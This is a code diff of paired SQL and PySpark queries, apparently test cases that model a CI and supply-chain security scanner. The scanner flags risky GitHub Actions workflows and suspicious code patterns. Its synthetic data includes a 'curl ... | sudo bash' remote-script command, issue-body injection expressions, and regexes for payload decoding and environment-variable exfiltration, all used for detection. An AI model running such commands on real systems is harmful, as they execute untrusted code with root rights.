@@ -39,15 +39,20 @@ def _steps(f: Facts) -> DataFrame:
         F.concat(F.lit("s"), "l_partkey", F.lit("-"), "l_suppkey", F.lit("-"), "n").alias("step"),
         pick(F.col("l_partkey"), 7, {0: "actions/checkout@v4", 1: "tools/lint@0123456789abcdef0123456789abcdef01234567", 2: "tools/lint@v2", 3: "./local/act"}).alias("uses"),
         F.when((F.col("l_partkey") % 7 == 0) & (F.col("l_suppkey") % 5 < 2), "${{ github.event.pull_request.head.sha }}").alias("ref_arg"),
-        pick(F.col("l_partkey"), 5, {0: "curl -sSL https://x.example/i.sh | sudo bash", 1: "echo ${{ github.event.issue.title }}", 2: "wget x && echo ok", 3: "echo ${{ github.sha }}"}).alias("run"),
+        pick(F.col("l_partkey"), 5, {0: "curl -sSL https://x.example/i.sh | sudo bash", 1: "echo ${{ github.event.issue.body }}", 2: "wget x && echo ok", 3: "echo ${{ github.sha }}"}).alias("run"),
     )
 
 
-_FLAGS = ", f AS (SELECT *, (wp = 0 OR (t = 0 AND (wp = 2 OR jp = 0))) AS broad, (u = 0 AND ro < 2) AS prref FROM s)"
-_RULES = " UNION ALL ".join(f"SELECT workflow, job, step, '{n}' AS finding, {p} AS priority FROM f WHERE {c}" for n, p, c in (
-    ("overbroad-permissions", 80, "broad"), ("self-hosted-runner", 60, "ro = 0"), ("unpinned-third-party-action", 20, "u IN (0, 2)"),
-    ("untrusted-fork-code", 100, "prref AND t = 1"), ("pr-target-untrusted-checkout", 100, "prref AND t = 0"), ("remote-script-exec", 80, "r = 0"),
-    ("potential-injection", 100, "r = 1"), ("privileged-trigger", 80, "t = 0 AND (prref OR broad OR r = 1)"),
+_PR_REF = "'${{ github.event.pull_request.head.sha }}'"
+_FLAGS = ", f AS (SELECT *, (u = 0 AND ro < 2) AS prref FROM s)"
+_RULES = " UNION ".join(f"SELECT workflow, {j} AS job, {p} AS step, '{n}' AS finding, {d} AS detail, {k} AS priority FROM f WHERE {c}" for n, k, j, p, d, c in (
+    ("overbroad-permissions", 80, "NULL", "NULL", "CASE wp WHEN 0 THEN 'write-all' ELSE 'contents: write' END", "wp = 0 OR (t = 0 AND wp = 2)"),
+    ("self-hosted-runner", 60, "job", "NULL", "job", "ro = 0"),
+    ("unpinned-third-party-action", 20, "job", "step", "CASE u WHEN 0 THEN 'actions/checkout@v4' ELSE 'tools/lint@v2' END", "u IN (0, 2)"),
+    ("untrusted-fork-code", 100, "job", "step", _PR_REF, "prref AND t = 1"), ("pr-target-untrusted-checkout", 100, "job", "step", _PR_REF, "prref AND t = 0"),
+    ("remote-script-exec", 80, "job", "step", "'curl -sSL https://x.example/i.sh | sudo bash'", "r = 0"),
+    ("potential-injection", 100, "job", "step", "'echo ${{ github.event.issue.body }}'", "r = 1"),
+    ("privileged-trigger", 80, "NULL", "NULL", "'pull_request_target'", "t = 0 AND (prref OR wp IN (0, 2) OR r IN (0, 1) OR ro = 0)"),
 ))
 
 
@@ -56,6 +61,16 @@ def workflow_findings(f: Facts) -> DataFrame:
     return workflow.step_findings(_steps(f))
 
 
+@query("workflow_issue_list", _STEPS_SQL + _FLAGS + f" SELECT workflow, list(i ORDER BY p DESC, i) AS issues FROM (SELECT DISTINCT workflow, finding || ': ' || detail AS i, priority AS p FROM ({_RULES})) GROUP BY 1", facts=False)
+def workflow_issue_list(f: Facts) -> DataFrame:
+    return workflow.ordered_issues(workflow.step_findings(_steps(f)))
+
+
+@query("workflow_advice", _STEPS_SQL + _FLAGS + " SELECT DISTINCT finding, CASE finding " + " ".join(f"WHEN '{k}' THEN '{v}'" for k, v in workflow.RECOMMENDATION.items()) + f" END AS recommendation FROM ({_RULES})", facts=False)
+def workflow_advice(f: Facts) -> DataFrame:
+    return workflow.advice(workflow.step_findings(_steps(f))).select("finding", "recommendation").distinct()
+
+
 @query("workflow_missing_permissions", _STEPS_SQL + " SELECT workflow, 'missing-permissions' AS finding, 60 AS priority FROM s GROUP BY workflow HAVING bool_or(wp = 3) AND bool_or(jp = 2)", facts=False)
 def workflow_missing_permissions(f: Facts) -> DataFrame:
     return workflow.workflow_findings(_steps(f)).select("workflow", "finding", "priority")
@@ -73,7 +88,7 @@ def vulnerable_actions(f: Facts) -> DataFrame:
     return workflow.vulnerable_actions(_steps(f), v).drop("finding")
 
 
-@query("expression_references", r"""SELECT doc_id, list_distinct(regexp_extract_all(array_to_string(regexp_extract_all(text, '\$\{\{([^}]*)\}\}', 1), ' '), '(github(?:\.[A-Za-z0-9_-]+)+)', 1)) AS refs FROM documents WHERE contains(text, '${{')""", facts=False)
+@query("expression_references", r"""SELECT doc_id, list_distinct(regexp_extract_all(array_to_string(regexp_extract_all(text, '\$\{\{(.*?)\}\}', 1), ' '), '(github(?:\.[A-Za-z0-9_-]+)+)', 1)) AS refs FROM documents WHERE contains(text, '${{')""", facts=False)
 def expression_references(f: Facts) -> DataFrame:
     return f.table("documents").where(F.contains("text", F.lit("${{"))).select("doc_id", workflow.expressions(F.col("text")).alias("refs"))
 
@@ -265,7 +280,7 @@ def pseudo_versions(f: Facts) -> DataFrame:
     return f.table("orders").select(o.alias("id"), versions.pseudo_version(v).alias("p")).select("id", "p.*")
 
 
-@query("dataflow_fixpoint", """+ nodes AS (SELECT id AS node FROM component WHERE id < 400), edges AS (SELECT d.parent AS src, d.child AS dst FROM dependency d WHERE d.parent < 400 AND d.child < 400),
+@query("dataflow_fixpoint", """+ nodes AS (SELECT id AS node FROM component), edges AS (SELECT d.parent AS src, d.child AS dst FROM dependency d),
 st AS (SELECT node, 'a' AS location, 'lit' || node AS value FROM nodes WHERE node % 5 = 0
 UNION SELECT t.node, t.location, t.value FROM st s, LATERAL (SELECT e.dst AS node, s.location AS location, s.value AS value FROM edges e WHERE e.src = s.node
 UNION ALL SELECT s.node, 'b', 'x' || s.value WHERE s.location = 'a' AND s.node % 5 = 1) t)
@@ -302,7 +317,9 @@ def streaming_event_counts(f: Facts) -> DataFrame:
 
 
 @query("suspicious_patterns", r"""WITH l AS (SELECT doc_id, unnest(string_split(text, chr(10))) AS t FROM documents WHERE text IS NOT NULL)
-SELECT doc_id, CASE WHEN bool_or(regexp_matches(t, '(?i)\b(?:vmware|virtualbox|qemu|sandboxie)\b') OR regexp_matches(t, '\bsys\.gettrace\s*\(\s*\)') OR regexp_matches(t, '(?:\\x[0-9a-fA-F]{2}){8,}')) THEN 'FAIL' ELSE 'PASS' END AS result FROM l GROUP BY 1""", facts=False)
+SELECT doc_id, CASE WHEN bool_or(regexp_matches(t, '(?i)\b(?:vmware|virtualbox|qemu|sandboxie)\b') OR regexp_matches(t, '\bsys\.gettrace\s*\(\s*\)') OR regexp_matches(t, '(?:\\x[0-9a-fA-F]{2}){8,}')
+OR regexp_matches(t, '\b(?:exec|eval)\s*\(.*\b(?:b64decode|unhexlify|fromhex|decompress|loads)\s*\(') OR regexp_matches(t, 'join\s*\(\s*(?:map\s*\(\s*chr\b|\[?\s*chr\s*\()')
+OR regexp_matches(t, '__import__\s*\(\s*(?:[^"''\s]|$)') OR regexp_matches(t, '\b(?:post|put|urlopen|request)\s*\(.*\bos\.environ\b')) THEN 'FAIL' ELSE 'PASS' END AS result FROM l GROUP BY 1""", facts=False)
 def suspicious_patterns(f: Facts) -> DataFrame:
     d = f.table("documents").where("text is not null")
     lines = d.select("doc_id", F.lit("text").alias("path"), F.posexplode(F.split("text", "\n")).alias("no", "t"))
@@ -315,12 +332,11 @@ def provenance_expectation(f: Facts) -> DataFrame:
     return _statements(f).select("att_num", met.alias("met"))
 
 
-@query("lowest_satisfying_version", """WITH r AS (SELECT package_name, release_version, list_resize(list_transform(string_split(release_version, '.'), lambda t: CAST(t AS BIGINT)), 6, 0) AS k FROM release_files WHERE regexp_full_match(release_version, '[0-9]+([.][0-9]+)*'))
+@query("lowest_satisfying_version", """WITH r AS (SELECT package_name, release_version, list_resize(list_transform(string_split(release_version, '.'), lambda t: CAST(t AS BIGINT)), 6, 0) AS k FROM release_files)
 SELECT package_name, min(k) AS k FROM r WHERE k[1] >= 2 AND k[1] < 6 GROUP BY 1""", facts=False)
 def lowest_satisfying_version(f: Facts) -> DataFrame:
-    r = f.table("release_files").where(F.col("release_version").rlike(r"\A[0-9]+(\.[0-9]+)*\z"))
-    low = patterns.lowest_satisfying(r, "package_name", "release_version", ">=2,<6")
-    parts = F.transform(F.split("release_version", r"\."), lambda x: x.cast("bigint"))
+    low = patterns.lowest_satisfying(f.table("release_files"), "package_name", "release_version", ">=2,<6")
+    parts = F.transform(F.split("release_version", r"\."), lambda x: x.try_cast("bigint"))
     return low.select("package_name", F.slice(F.concat(parts, F.array_repeat(F.lit(0).cast("bigint"), 6)), 1, 6).alias("k"))
 
 
@@ -350,7 +366,7 @@ def artifact_pipeline(f: Facts) -> DataFrame:
     return resolution.artifact_pipeline(f.releases, f.ci_runs, commits, NOW, 12 * 3600)
 
 
-@query("nearest_ancestor", """+ up AS (SELECT p_partkey AS node, p_partkey AS pos FROM part WHERE p_partkey < 3000 UNION ALL SELECT node, pos // 2 FROM up WHERE pos % 7 <> 0 AND pos // 2 > 0)
+@query("nearest_ancestor", """+ up AS (SELECT p_partkey AS node, p_partkey AS pos FROM part UNION ALL SELECT node, pos // 2 FROM up WHERE pos % 7 <> 0 AND pos // 2 > 0)
 SELECT node, pos AS ancestor FROM up WHERE pos % 7 = 0""")
 def nearest_ancestor(f: Facts) -> DataFrame:
     k = F.col("p_partkey")
